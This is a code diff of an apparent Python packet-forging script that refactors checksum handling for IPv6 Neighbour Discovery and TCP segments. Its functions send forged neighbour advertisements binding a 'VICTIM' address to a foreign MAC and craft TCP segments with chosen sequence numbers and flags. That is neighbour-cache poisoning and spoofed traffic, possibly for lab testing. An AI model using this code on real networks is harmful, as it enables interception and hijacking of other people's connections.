@@ -43,6 +43,11 @@ def total(data):
     return ~value & 0xffff
 
 
+def sum_of(source, protocol, data, to=None):
+    """With the pseudo-header of the family that the source belongs to; to the victim, or who is named."""
+    return total(source + (to or address(VICTIM)) + struct.pack("!II", len(data), protocol) + data)
+
+
 def arp(operation, sender_mac, sender, target_mac, target, to=b"\xff" * 6):
     head = to + sender_mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, operation)
     return head + sender_mac + sender + target_mac + target
@@ -86,7 +91,7 @@ def ip_packet(victim, source, protocol, payload):
 def tcp_segment(victim, source, port, seq, ack, flags, window, data=b""):
     seq, ack = seq & 0xffffffff, ack & 0xffffffff
     segment = struct.pack("!HHIIBBHHH", port, PORT, seq, ack, 0x50, flags, window, 0, 0) + data
-    value = total(source + address(VICTIM) + struct.pack("!BBH", 0, 6, len(segment)) + segment)
+    value = sum_of(source, 6, segment)
     return ip_packet(victim, source, 6, segment[:16] + struct.pack("!H", value) + segment[18:])
 
 
@@ -95,20 +100,20 @@ SYN, RST, PSH, ACK = 2, 4, 8, 16
 
 # --- IPv6, and both ---------------------------------------------------------------------------------------------------
 
-def sum_of(source, protocol, data):
-    """With the pseudo-header of the family that the source belongs to."""
-    return total(source + address(VICTIM) + struct.pack("!II", len(data), protocol) + data)
-
-
 def packet6(source, to, protocol, payload, hops=64):
     return struct.pack("!IHBB", 0x60000000, len(payload), protocol, hops) + source + to + payload
+
+
+def discovery(source, to, body):
+    """Neighbour Discovery, whose checksum is still zero in the body."""
+    value = sum_of(source, 58, body, to)
+    return packet6(source, to, 58, body[:2] + struct.pack("!H", value) + body[4:], 255)
 
 
 def victims_mac6():
     asker, group = address("fd00:90::200"), address("ff02::1:ff00:2")
     question = struct.pack("!BBHI", 135, 0, 0, 0) + address(VICTIM) + b"\1\1" + STRANGER_MAC
-    value = total(asker + group + struct.pack("!II", len(question), 58) + question)
-    packet = packet6(asker, group, 58, question[:2] + struct.pack("!H", value) + question[4:], 255)
+    packet = discovery(asker, group, question)
     for _ in range(50):
         send(b"\x33\x33\xff\0\0\2" + STRANGER_MAC + b"\x86\xdd" + packet)
         end = time.monotonic() + 0.2
@@ -125,9 +130,7 @@ def nd_claims():
         for kind, about, option in ((136, own, 2), (136, address(VICTIM), 2), (135, address(VICTIM), 1)):
             flags = 0x60000000 if kind == 136 else 0
             body = struct.pack("!BBHI", kind, 0, 0, flags) + about + bytes((option, 1)) + STRANGER_MAC
-            value = sum_of(own, 58, body)
-            packet = packet6(own, address(VICTIM), 58, body[:2] + struct.pack("!H", value) + body[4:], 255)
-            send(victim + STRANGER_MAC + b"\x86\xdd" + packet)
+            send(victim + STRANGER_MAC + b"\x86\xdd" + discovery(own, address(VICTIM), body))
         time.sleep(0.001)
 
 
